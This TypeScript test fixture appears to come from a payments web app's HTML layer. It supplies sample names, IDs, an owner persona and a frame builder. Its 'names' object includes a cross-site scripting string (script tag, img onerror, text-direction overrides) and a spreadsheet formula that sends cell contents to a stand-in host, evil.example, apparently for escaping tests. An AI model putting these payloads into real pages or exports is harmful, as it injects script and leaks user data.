import type { Language } from '@cobro/html/language.ts';
import type { Acting, Frame } from '../src/shell/frame.ts';

export const names = {
  long: 'Comercializadora Internacional de Artesanías y Textiles Tradicionales del Sureste Mexicano, S.A. de C.V.',
  hostile: "\"><script>alert(1)</script><img src=x onerror=alert(2)> \u202Eofer\u202C & 'Hijos'",
  formula: '=HYPERLINK("https://evil.example/?"&A1,"ver")',
};

export const ids = {
  payment: '01934d2c-6b1e-7a40-9c35-5f0c8a1b2d3e',
  card: '01934d2c-6b1e-7a40-9c35-5f0c8a1b2d40',
  link: '01934d2c-6b1e-7a40-9c35-5f0c8a1b2d41',
  person: '01934d2c-6b1e-7a40-9c35-5f0c8a1b2d42',
  key: '01934d2c-6b1e-7a40-9c35-5f0c8a1b2d43',
};

const owner: Acting = {
  scope: 'organization',
  role: 'owner',
  scopeName: 'Café Tacuba',
  personName: 'Ana Torres',
  email: 'ana@cafe-tacuba.example',
  lentUntil: null,
};

export const sampleFrame = (language: Language, address: string, acting: Partial<Acting> = {}): Frame => ({
  language,
  address,
  answersForm: false,
  isTest: true,
  clockNow: null,
  acting: { ...owner, ...acting },
  formToken: 'dG9rZW4tb2YtYS1zYW1wbGU',
});
